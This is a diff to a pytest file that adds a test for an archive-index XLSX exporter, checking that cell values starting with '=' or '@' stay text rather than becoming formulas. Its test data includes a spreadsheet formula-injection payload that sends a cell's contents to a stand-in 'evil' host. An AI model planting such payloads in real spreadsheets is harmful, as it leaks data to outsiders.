@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import datetime
 import hashlib
+import io
 import zipfile
 
 import pytest
@@ -104,3 +105,31 @@ def test_a_quarter_without_rounds_and_a_file_that_is_no_archive_are_refused(
     junk.write_text("not a zip")
     with pytest.raises(InspectionError, match="不是有效的档案压缩包"):
         check_archive(junk)
+
+
+def test_the_index_writes_typed_text_as_text_never_a_formula():
+    """An attachment named "=HYPERLINK(…).jpg" or a unit typed "=…" lands in 说明 as text."""
+    from desktop.services.inspections.archive import index_xlsx, read_index
+    from desktop.services.inspections.data import ArchiveIndex, IndexRow
+
+    payload = '=HYPERLINK("http://evil/?"&B5,"点击").jpg'
+    rows = (
+        IndexRow(1, "佐证材料/X1/ab-照片.jpg", "佐证材料", "=1+1", payload, 4, "0" * 64),
+        IndexRow(2, "01_D1/整改函_x.pdf", "整改函", "D1", "@SUM(1)，抄送\x07", 5, "1" * 64),
+    )
+    index = ArchiveIndex(
+        "2020Q2脱贫攻坚督查档案目录",
+        "2020Q2",
+        datetime.datetime(2020, 6, 30, 9, 0),
+        datetime.date(2020, 6, 30),
+        ("-D1",),
+        rows,
+    )
+    data = index_xlsx(index)
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
+    _title, _quarter, back = read_index(data)
+    assert [(r.round_number, r.description) for r in back] == [
+        ("=1+1", payload),
+        ("D1", "@SUM(1)，抄送"),
+    ]
